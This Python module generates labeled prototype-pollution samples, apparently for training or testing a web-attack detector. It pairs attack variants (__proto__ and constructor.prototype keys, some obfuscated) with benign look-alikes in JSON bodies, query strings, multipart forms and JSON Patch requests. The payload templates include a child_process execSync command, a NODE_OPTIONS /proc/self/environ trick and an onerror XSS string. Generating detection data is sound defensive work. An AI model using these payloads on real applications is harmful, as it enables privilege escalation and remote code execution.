"""Prototype pollution: __proto__ and constructor.prototype as JSON keys, bracketed and dotted parameter names."""

import inject

from . import grammar, lexicon, places

ROOTS = (("__proto__",), ("__proto__",), ("__proto__",), ("constructor", "prototype"), ("constructor", "prototype"), ("__proto__", "__proto__"), ("constructor", "constructor", "prototype"), ("prototype", "__proto__"), ("constructor", "__proto__"))
DISGUISED = (("__pro__proto__to__",), ("__proto____proto__",), ("__PROTO__", "__proto__"), ("constconstructorructor", "prototype"), ("\u005f_proto__",), ("__proto__ ", "__proto__"))
PROPERTIES = ("isAdmin", "admin", "role", "polluted", "toString", "shell", "NODE_OPTIONS", "env", "argv0", "sourceURL", "innerHTML", "srcdoc", "src", "onerror", "hitCallback", "transport_url", "script", "template", "outputFunctionName", "escapeFunction", "client", "block", "type", "line", "body", "status", "exec", "allowedTags", "url", "baseURL", "sandbox", "length", "json spaces", "content-type", "exposedHeaders", "whiteList", "layout", "execPath", "input", "context", "self", "compileDebug", "debug", "hasOwnProperty", "valueOf", "authenticated", "permissions")
PLAIN = (("prototype",), ("constructor",), ("proto",), ("_proto",), ("protocol",), ("filter",), ("user", "constructor"), ("car", "constructor"), ("design", "prototype"), ("product", "prototype"), ("team", "constructor", "name"))


def path(attack, rng):
    root = rng.choice(DISGUISED if attack and rng.random() < 0.08 else ROOTS if attack else PLAIN)
    before = [lexicon.ident(rng) for _ in range(rng.choice((0, 0, 0, 1, 2)))]
    last = [rng.choice(PROPERTIES[:2] + PROPERTIES) if attack and rng.random() < 0.7 else lexicon.ident(rng)]
    if rng.random() < 0.1:
        last.append(lexicon.ident(rng))
    if not attack and rng.random() < 0.4:
        last = []
    return before + list(root) + last


def content(attack, rng):
    common = grammar.load("common")
    draw = rng.random()
    if draw < 0.4:
        return rng.choice((True, True, 1, "1", "true", "admin", rng.randint(2, 9999), None, [], "yes"))
    if draw < 0.6 or not attack:
        return lexicon.word(rng)
    return rng.choice((lambda: common.expand("jscall", rng), lambda: f"process.mainModule.require('child_process').execSync('{common.expand('recon', rng)}')", lambda: f"--require /proc/self/{rng.choice(('environ', 'cmdline'))}", lambda: f"data:,{common.expand('jsfncall', rng)}//",
                       lambda: f"//{lexicon.host(rng)}/{lexicon.word(rng)}.js", lambda: f"<img src=x onerror={common.expand('jsfncall', rng)}>", lambda: f"x;{common.expand('jsfncall', rng)};//"))()


def document(keys, last):
    for key in reversed(keys):
        last = {key: last}
    return last


def parameter(attack, rng):
    """name=value with the path in brackets or dots, not yet percent-encoded."""
    keys = path(attack, rng)
    draw = rng.random()
    if draw < 0.5 and len(keys) > 1:
        return keys[0] + "".join(f"[{key}]" for key in keys[1:]), content(attack, rng)
    if draw < 0.6 and len(keys) > 1:
        quote = rng.choice("'\"")
        return keys[0] + "".join(f"[{quote}{key}{quote}]" for key in keys[1:]), content(attack, rng)
    if draw < 0.64:
        return "".join(f"[{key}]" for key in keys), content(attack, rng)
    return rng.choice((".", ".", ".", "/", "->", ":") if attack else (".", ".", "_", "-")).join(keys), content(attack, rng)


def wire(name, what, rng):
    if rng.random() < 0.5:
        name = name.replace("[", "%5B").replace("]", "%5D")
    if rng.random() < 0.15:
        name = name.replace("_", "%5F")
    name = name.replace('"', "%22").replace("'", "%27").replace(" ", "%20").replace(">", "%3E")
    return f"{name}={inject.percent(str(what).lower() if isinstance(what, bool) else str(what), rng)}"


def whole(attack, rng):
    inner = document(path(attack, rng), content(attack, rng))
    if rng.random() < 0.4:
        inner = {**places.fields(rng, 3), **inner}
    if not attack and rng.random() < 0.3:
        inner["type"] = "constructor"
    text = inject.json_text(inner, rng)
    if attack and rng.random() < 0.1:
        text = text.replace("__proto__", rng.choice(("\\u005f\\u005fproto\\u005f\\u005f", "__\\u0070roto__", "\\u005f_proto__")))
    return text


def value(attack, rng):
    draw = rng.random()
    if draw < 0.5:
        return whole(attack, rng)
    if draw < 0.7:
        name, what = parameter(attack, rng)
        return f"{rng.choice(('', '', '?', '#'))}{name}={what}"
    return grammar.load("prototype").expand("attack" if attack else "twin", rng)


def put(attack, carrier, rng):
    draw = rng.random()
    if draw < 0.3:
        pairs = [wire(*parameter(attack, rng), rng) for _ in range(rng.choice((1, 1, 1, 2)))]
        if rng.random() < 0.25:
            return places.form_body(carrier, pairs, rng)
        return places.add_query(carrier, pairs, rng)
    if draw < 0.75:
        if places.has_body(carrier) and rng.random() < 0.6:
            return places.add_query(carrier, [wire(*parameter(attack, rng), rng)], rng)
        if rng.random() < 0.1:
            name, what = parameter(attack, rng)
            return places.multipart_body(carrier, places.shuffled(places.form_parts(rng) + [(f'name="{name}"'.replace('""', '"'), "", str(what))], rng), rng)
        places.give(carrier, rng.choice(("application/json", "application/json; charset=utf-8", "application/merge-patch+json")), whole(attack, rng), rng)
        return "json"
    if draw < 0.8 and not places.has_body(carrier):
        patch = [{"op": rng.choice(("add", "replace")), "path": "/" + "/".join(path(attack, rng)), "value": content(attack, rng)}]
        places.give(carrier, "application/json-patch+json", inject.json_text(patch, rng), rng, "PATCH")
        return "json"
    return ""
